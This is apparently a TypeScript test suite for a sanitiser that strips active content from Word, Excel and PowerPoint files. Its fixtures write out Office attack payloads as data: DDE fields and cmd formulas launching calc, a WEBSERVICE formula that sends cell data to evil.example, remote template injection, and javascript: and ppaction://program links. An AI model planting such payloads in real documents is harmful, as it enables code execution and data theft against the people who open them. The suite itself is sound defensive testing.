import { zip } from '@minga/domain/file/testing/zip'
import { describe, expect, test } from 'vitest'

import { cleanFile } from './clean-file.ts'
import { allInArchive } from './testing/all-in.ts'
import { docx, namespaces, openXmlPackage, pptx, xlsx, type TestPart } from './testing/office-package.ts'

const ole = Buffer.from('D0CF11E0A1B11AE1\0calc.exe', 'latin1')
Object.assign(ole, [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
const program = Buffer.from('MZ\u0090\0 this is evil', 'latin1')
const evil = 'https://evil.example/'
const field = (...pieces: readonly string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces
    .map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`)
    .join(
      '',
    )}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>What it showed</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const settings = (inside: string, links: TestPart['links']): TestPart => ({
  name: 'word/settings.xml',
  content: `<w:settings ${namespaces}>${inside}<w:zoom w:percent="100"/></w:settings>`,
  ...(links && { links }),
})
const toSettings = { id: 'rId9', type: 'settings', target: 'settings.xml' }
const sheetFormula = (formula: string) => xlsx({ cells: `<row r="1"><c r="A1"><f>${formula}</f><v>42</v></c></row>` })

interface Case {
  readonly is: string
  readonly kind: 'docx' | 'xlsx' | 'pptx'
  readonly file: Uint8Array
  readonly takenOut: Readonly<Record<string, number>>
  readonly gone: readonly RegExp[]
  readonly stays?: readonly RegExp[]
}

const cases: readonly Case[] = [
  {
    is: 'a template from elsewhere',
    kind: 'docx',
    file: docx(
      '',
      [toSettings],
      [
        settings('<w:attachedTemplate r:id="rId1"/>', [
          { id: 'rId1', type: 'attachedTemplate', target: `${evil}t.dotm`, isExternal: true },
        ]),
      ],
    ),
    takenOut: { template: 1 },
    gone: [/attachedTemplate/, /dotm/],
    stays: [/w:zoom/],
  },
  {
    is: 'a remote picture, in place of which a placeholder stays',
    kind: 'docx',
    file: docx(
      '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="rId1"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>',
      [{ id: 'rId1', type: 'image', target: `${evil}seen.png`, isExternal: true }],
    ),
    takenOut: { 'remote-image': 1 },
    gone: [/r:link/],
    stays: [/<a:blip r:embed="rId1"/, /placeholder\/picture-from-elsewhere\.png/, /Extension="png"/],
  },
  {
    is: 'a remote picture of old drawings',
    kind: 'docx',
    file: docx(
      '<w:p><w:r><w:pict><v:shape><v:imagedata src="https://evil.example/x.png" o:href="\\\\evil.example\\x"/></v:shape></w:pict></w:r></w:p>',
    ),
    takenOut: { 'remote-image': 2 },
    gone: [/o:href=/],
    stays: [/v:shape/],
  },
  {
    is: 'a program in a document',
    kind: 'docx',
    file: docx(
      '<w:p><w:r><w:object><v:shape><v:imagedata r:id="rId2"/></v:shape><o:OLEObject Type="Embed" ProgID="Package" r:id="rId1"/></w:object></w:r></w:p>',
      [
        { id: 'rId1', type: 'oleObject', target: 'embeddings/oleObject1.bin' },
        { id: 'rId2', type: 'image', target: 'media/image1.emf' },
      ],
      [
        { name: 'word/embeddings/oleObject1.bin', content: ole },
        { name: 'word/media/image1.emf', content: Buffer.from([1, 0, 0, 0, 9]) },
      ],
    ),
    takenOut: { 'embedded-program': 1 },
    gone: [/OLEObject/, /oleObject1\.bin/, /calc\.exe/],
    stays: [/v:imagedata r:id="rId2"/, /image1\.emf/],
  },
  {
    is: 'a program that is called a picture, and one that nothing names',
    kind: 'docx',
    file: docx(
      '<w:p><w:r><w:drawing><a:blip r:embed="rId1"/></w:drawing></w:r></w:p>',
      [{ id: 'rId1', type: 'image', target: 'media/image1.png' }],
      [
        { name: 'word/media/image1.png', content: program },
        { name: 'word/embeddings/evil.exe', content: program },
      ],
    ),
    takenOut: { 'embedded-program': 2 },
    gone: [/this is evil/, /evil\.exe/],
  },
  {
    is: 'a control',
    kind: 'docx',
    file: docx(
      '<w:p><w:r><w:object><v:shape/><w:control r:id="rId1" w:name="x"/></w:object></w:r></w:p>',
      [{ id: 'rId1', type: 'control', target: 'activeX/activeX1.xml' }],
      [
        {
          name: 'word/activeX/activeX1.xml',
          content: '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{5512D122}"/>',
          links: [{ id: 'rId1', type: 'activeXControlBinary', target: 'activeX1.bin' }],
        },
        { name: 'word/activeX/activeX1.bin', content: Buffer.from('binary') },
      ],
    ),
    takenOut: { 'embedded-program': 1 },
    gone: [/w:control/, /activeX/i],
  },
  {
    is: 'another document in it',
    kind: 'docx',
    file: docx(
      '<w:altChunk r:id="rId1"/>',
      [{ id: 'rId1', type: 'aFChunk', target: 'chunk.html' }],
      [{ name: 'word/chunk.html', content: '<html><script>alert(1)</script></html>' }],
    ),
    takenOut: { 'embedded-program': 1 },
    gone: [/altChunk/, /script/, /chunk\.html/],
  },
  {
    is: 'fields that ask other programs, in one piece or in many',
    kind: 'docx',
    file: docx(
      `${field('DDE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')}${field(' INCLUDEPICTURE "https://evil.example/p.png" ')}<w:p><w:fldSimple w:instr=" INCLUDETEXT \\\\evil.example\\x "><w:r><w:t>Kept</w:t></w:r></w:fldSimple></w:p>${field(' PAGEREF _Toc1 ')}`,
    ),
    takenOut: { 'remote-image': 1, 'remote-content': 1, 'external-data': 1 },
    gone: [/AUTO/, /cmd\.exe/, /INCLUDE/],
    stays: [/What it showed/, />Kept</, /PAGEREF/],
  },
  {
    is: 'a field whose name another field spells',
    kind: 'docx',
    file: docx(
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> calc </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ),
    takenOut: { 'external-data': 1 },
    gone: [/QUOTE/, /DDE/, /calc/],
    stays: [/shown/],
  },
  {
    is: 'links that lead into a private network or run something, and not the others',
    kind: 'docx',
    file: docx(
      '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>share</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId2"><w:r><w:t>ministry</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId3"><w:r><w:t>run</w:t></w:r></w:hyperlink></w:p>',
      [
        { id: 'rId1', type: 'hyperlink', target: 'file:///\\\\evil.example\\share', isExternal: true },
        { id: 'rId2', type: 'hyperlink', target: 'https://ministerio.example/plan', isExternal: true },
        { id: 'rId3', type: 'hyperlink', target: ' java&#x9;script:alert(1)', isExternal: true },
      ],
    ),
    takenOut: { 'unsafe-link': 2 },
    gone: [/share"/, /alert/],
    stays: [/>share</, />run</, /r:id="rId2"/, /ministerio\.example/],
  },
  {
    is: 'where mails are merged from',
    kind: 'docx',
    file: docx(
      '',
      [toSettings],
      [
        settings('<w:mailMerge><w:query w:val="SELECT"/><w:dataSource r:id="rId1"/></w:mailMerge>', [
          { id: 'rId1', type: 'mailMergeSource', target: 'file:///C:\\data.mdb', isExternal: true },
        ]),
      ],
    ),
    takenOut: { 'external-data': 1 },
    gone: [/mailMerge/, /data\.mdb/],
  },
  {
    is: 'buttons in the ribbon, and an add-in of the web',
    kind: 'docx',
    file: openXmlPackage(
      [
        { name: 'word/document.xml', content: `<w:document ${namespaces}><w:body/></w:document>` },
        { name: 'customUI/customUI.xml', content: '<customUI onLoad="evil"/>' },
        {
          name: 'word/webextensions/taskpanes.xml',
          content: `<wetp:taskpanes ${namespaces}><wetp:taskpane><wetp:webextensionref r:id="rId1"/></wetp:taskpane></wetp:taskpanes>`,
          links: [{ id: 'rId1', type: 'webextension', target: 'webextension1.xml' }],
        },
        { name: 'word/webextensions/webextension1.xml', content: `<we:webextension ${namespaces} id="x"/>` },
      ],
      [
        {
          id: 'rId2',
          type: 'http://schemas.microsoft.com/office/2006/relationships/ui/extensibility',
          target: 'customUI/customUI.xml',
        },
        {
          id: 'rId3',
          type: 'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
          target: 'word/webextensions/taskpanes.xml',
        },
      ],
    ),
    takenOut: { 'web-extension': 1, action: 1 },
    gone: [/customUI/, /taskpanes\.xml/, /webextension1/],
  },
  {
    is: 'other books, connections and queries behind a table',
    kind: 'xlsx',
    file: xlsx({
      cells:
        '<row r="1"><c r="A1"><f>[1]Hoja!A1*2</f><v>42</v></c><c r="B1"><f t="shared" ref="B1:B2" si="0">\'[1]Otra hoja\'!A1</f><v>7</v></c><c r="C1"><f>SUM(Ventas[2024])</f><v>3</v></c></row><row r="2"><c r="B2"><f t="shared" si="0"/><v>8</v></c></row>',
      book: '<externalReferences><externalReference r:id="rId2"/></externalReferences><definedNames><definedName name="fuera">[1]Hoja!$A$1</definedName><definedName name="dentro">\'Hoja 1\'!$A$1</definedName></definedNames>',
      bookLinks: [
        { id: 'rId2', type: 'externalLink', target: 'externalLinks/externalLink1.xml' },
        { id: 'rId3', type: 'connections', target: 'connections.xml' },
        { id: 'rId4', type: 'calcChain', target: 'calcChain.xml' },
      ],
      parts: [
        {
          name: 'xl/externalLinks/externalLink1.xml',
          content: `<externalLink ${namespaces}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
          links: [{ id: 'rId1', type: 'externalLinkPath', target: `${evil}book.xlsx`, isExternal: true }],
        },
        { name: 'xl/connections.xml', content: '<connections><connection odcFile="evil"/></connections>' },
        { name: 'xl/calcChain.xml', content: '<calcChain><c r="A1" i="1"/></calcChain>' },
      ],
    }),
    takenOut: { 'external-data': 2 },
    gone: [/externalLink/, /externalReference/, /ddeLink/, /connection/, /\[1\]/, /fuera/, /si="0"/, /calcChain/],
    stays: [/<v>42<\/v>/, /<v>8<\/v>/, /Ventas\[2024\]/, /dentro/],
  },
  ...[
    "cmd|'/c calc'!A0",
    'DDE(&quot;cmd&quot;,&quot;/c calc&quot;,&quot;x&quot;)',
    '_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;A2)',
    'cmd&#124;&#x27;/c calc&#x27;!A0',
    "'C:\\[otro.xlsx]Hoja'!A1",
  ].map((formula) => ({
    is: `the formula ${formula}`,
    kind: 'xlsx' as const,
    file: sheetFormula(formula),
    takenOut: { 'external-data': 1 },
    gone: [/<f>/],
    stays: [/<v>42<\/v>/],
  })),
  {
    is: 'programs and controls on a sheet',
    kind: 'xlsx',
    file: xlsx({
      after:
        '<hyperlinks><hyperlink ref="A1" r:id="rId3"/></hyperlinks><oleObjects><mc:AlternateContent><mc:Choice Requires="x14"><oleObject progId="Package" r:id="rId1"/></mc:Choice><mc:Fallback><oleObject r:id="rId1"/></mc:Fallback></mc:AlternateContent></oleObjects><controls><control r:id="rId2"/></controls>',
      links: [
        { id: 'rId1', type: 'oleObject', target: '../embeddings/oleObject1.bin' },
        { id: 'rId2', type: 'control', target: '../activeX/activeX1.xml' },
        { id: 'rId3', type: 'hyperlink', target: 'https://ministerio.example/', isExternal: true },
      ],
      parts: [
        { name: 'xl/embeddings/oleObject1.bin', content: ole },
        { name: 'xl/activeX/activeX1.xml', content: '<ocx/>' },
      ],
    }),
    takenOut: { 'embedded-program': 2 },
    gone: [/oleObject/, /AlternateContent/, /control/, /activeX/],
    stays: [/<hyperlink ref="A1" r:id="rId3"/, /ministerio/],
  },
  {
    is: 'what a pivot table asks a server for',
    kind: 'xlsx',
    file: xlsx({
      bookLinks: [
        { id: 'rId2', type: 'pivotCacheDefinition', target: 'pivotCache/pivotCacheDefinition1.xml' },
        { id: 'rId3', type: 'connections', target: 'connections.xml' },
      ],
      parts: [
        {
          name: 'xl/pivotCache/pivotCacheDefinition1.xml',
          content: `<pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cacheSource type="external" connectionId="1"/><cacheFields count="1"><cacheField name="País"/></cacheFields></pivotCacheDefinition>`,
        },
        { name: 'xl/connections.xml', content: '<connections/>' },
      ],
    }),
    takenOut: { 'external-data': 2 },
    gone: [/connection/i, /type="external"/],
    stays: [/cacheField name="País"/, /worksheetSource/],
  },
  {
    is: 'a query that fetches',
    kind: 'xlsx',
    file: xlsx({
      bookLinks: [{ id: 'rId5', type: 'customXml', target: '../customXml/item1.xml' }],
      parts: [
        {
          name: 'customXml/item1.xml',
          content: '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>',
        },
      ],
    }),
    takenOut: { 'external-data': 1 },
    gone: [/DataMashup/, /item1\.xml/],
  },
  {
    is: 'what runs on a press on a slide, or by itself',
    kind: 'pptx',
    file: pptx(
      '<p:sp><a:hlinkClick r:id="rId1" action="ppaction://program"/></p:sp><p:sp><a:hlinkHover r:id="" action="ppaction://macro?name=x"/></p:sp><p:sp><a:hlinkClick r:id="rId2"/></p:sp>',
      [
        { id: 'rId1', type: 'hyperlink', target: 'calc.exe', isExternal: true },
        { id: 'rId2', type: 'hyperlink', target: 'https://ministerio.example/', isExternal: true },
      ],
      [],
      '<p:timing><p:tnLst><p:cmd type="verb" cmd="0"/></p:tnLst></p:timing>',
    ),
    takenOut: { action: 3 },
    gone: [/ppaction/, /p:cmd/, /p:timing/],
    stays: [/<a:hlinkClick r:id="rId2"/, /ministerio/],
  },
  {
    is: 'a program on a slide, of which the picture stays',
    kind: 'pptx',
    file: pptx(
      '<p:graphicFrame><a:graphic><a:graphicData uri="ole"><mc:AlternateContent><mc:Choice Requires="v"><p:oleObj r:id="rId1"><p:embed/></p:oleObj></mc:Choice><mc:Fallback><p:oleObj r:id="rId1"><p:embed/><p:pic><p:blipFill><a:blip r:embed="rId2"/></p:blipFill></p:pic></p:oleObj></mc:Fallback></mc:AlternateContent></a:graphicData></a:graphic></p:graphicFrame>',
      [
        { id: 'rId1', type: 'package', target: '../embeddings/book.xlsx' },
        { id: 'rId2', type: 'image', target: '../media/image1.png' },
      ],
      [
        { name: 'ppt/embeddings/book.xlsx', content: xlsx({}) },
        { name: 'ppt/media/image1.png', content: Buffer.from('\u0089PNG\r\n', 'latin1') },
      ],
    ),
    takenOut: { 'embedded-program': 1 },
    gone: [/oleObj/, /book\.xlsx/, /graphicFrame/],
    stays: [/<p:pic><p:blipFill><a:blip r:embed="rId2"/, /image1\.png/],
  },
  {
    is: 'a film from elsewhere, and a drawing with a script',
    kind: 'pptx',
    file: pptx(
      '<p:pic><p:nvPr><a:videoFile r:link="rId1"/></p:nvPr><a:blip r:embed="rId2"/></p:pic>',
      [
        { id: 'rId1', type: 'video', target: `${evil}film.mp4`, isExternal: true },
        { id: 'rId2', type: 'image', target: '../media/image1.svg' },
      ],
      [
        {
          name: 'ppt/media/image1.svg',
          content:
            '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg" onload="evil()"><script>evil()</script><path d="M0 0"/></svg>',
        },
      ],
    ),
    takenOut: { 'remote-content': 1, script: 2 },
    gone: [/videoFile/, /film\.mp4/, /evil\(/],
    stays: [/<path d="M0 0"/],
  },
]

describe('out of a document of Microsoft are taken:', () => {
  test.each(cases)('$is', async ({ kind, file, takenOut, gone, stays = [] }) => {
    const cleaned = await cleanFile(kind, file)
    if (cleaned.is !== 'cleaned') throw new Error(JSON.stringify(cleaned))
    expect(Object.fromEntries(cleaned.takenOut.map(({ what, count }) => [what, count]))).toEqual(takenOut)
    const all = allInArchive(cleaned.bytes)
    for (const pattern of [...gone, /evil\.example/]) {
      expect(allInArchive(file)).toMatch(pattern.source === 'evil\\.example' ? /./ : pattern)
      expect(all).not.toMatch(pattern)
    }
    for (const pattern of stays) expect(all).toMatch(pattern)
    // Once it is clean there is nothing to take out, and no part names one that is not there.
    expect(await cleanFile(kind, cleaned.bytes)).toEqual({ is: 'as-sent' })
  })

  test('the workbook behind a chart is cleaned, the chart stays', async () => {
    const chart = (book: Uint8Array) =>
      docx(
        '<w:p><w:r><w:drawing><c:chart r:id="rId1"/></w:drawing></w:r></w:p>',
        [{ id: 'rId1', type: 'chart', target: 'charts/chart1.xml' }],
        [
          {
            name: 'word/charts/chart1.xml',
            content: `<c:chartSpace ${namespaces}><c:numCache><c:v>42</c:v></c:numCache><c:externalData r:id="rId1"/></c:chartSpace>`,
            links: [{ id: 'rId1', type: 'package', target: '../embeddings/book.xlsx' }],
          },
          { name: 'word/embeddings/book.xlsx', content: book },
        ],
      )
    expect(await cleanFile('docx', chart(xlsx({})))).toEqual({ is: 'as-sent' })
    const dirty = await cleanFile('docx', chart(sheetFormula("cmd|'/c calc'!A0")))
    expect(dirty).toMatchObject({ is: 'cleaned', takenOut: [{ what: 'external-data', count: 1 }] })
    const none = await cleanFile('docx', chart(program))
    expect(none).toMatchObject({ is: 'cleaned', takenOut: [{ what: 'embedded-program', count: 1 }] })
    const all = none.is === 'cleaned' ? allInArchive(none.bytes) : ''
    expect(all).toMatch(/<c:v>42<\/c:v>/)
    expect(all).not.toMatch(/externalData|book\.xlsx/)
  })
})

describe('refused are', () => {
  const types = (more: string) => `<Types><Override PartName="/word/x.bin" ContentType="${more}"/></Types>`
  test.each([
    [
      'macros under another name',
      'macros',
      docx('', [{ id: 'rId1', type: 'vbaProject', target: 'x.bin' }], [{ name: 'word/x.bin', content: ole }]),
    ],
    [
      'a kind that has macros',
      'macros',
      zip([
        {
          name: '[Content_Types].xml',
          text: types('application/vnd.ms-word.document.macroEnabled.main+xml'),
        },
        { name: 'word/document.xml' },
      ]),
    ],
    [
      'XML with entities of its own',
      'unreadable',
      openXmlPackage([{ name: 'word/document.xml', content: '<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>' }]),
    ],
    [
      'XML in an odd encoding',
      'unreadable',
      openXmlPackage([{ name: 'word/document.xml', content: '<?xml version="1.0" encoding="UTF-7"?><a/>' }]),
    ],
    [
      'broken XML in which something would have to go',
      'unreadable',
      docx('<w:altChunk r:id="rId1"><w:p>', [{ id: 'rId1', type: 'aFChunk', target: 'x.html' }]),
    ],
  ])('%s', async (_is, because, file) => {
    expect(await cleanFile('docx', file)).toEqual({ is: 'refused', because })
  })
})

test('UTF-16 is read as what it is', async () => {
  const xml = `<?xml version="1.0" encoding="UTF-16"?><w:document ${namespaces}><w:body>${field('DDEAUTO calc')}</w:body></w:document>`
  const content = Buffer.from(`\uFEFF${xml}`, 'utf16le')
  const cleaned = await cleanFile('docx', openXmlPackage([{ name: 'word/document.xml', content }]))
  expect(cleaned).toMatchObject({ is: 'cleaned', takenOut: [{ what: 'external-data', count: 1 }] })
  expect(cleaned.is === 'cleaned' && allInArchive(cleaned.bytes)).toMatch(/encoding="UTF-8".*What it showed/s)
})
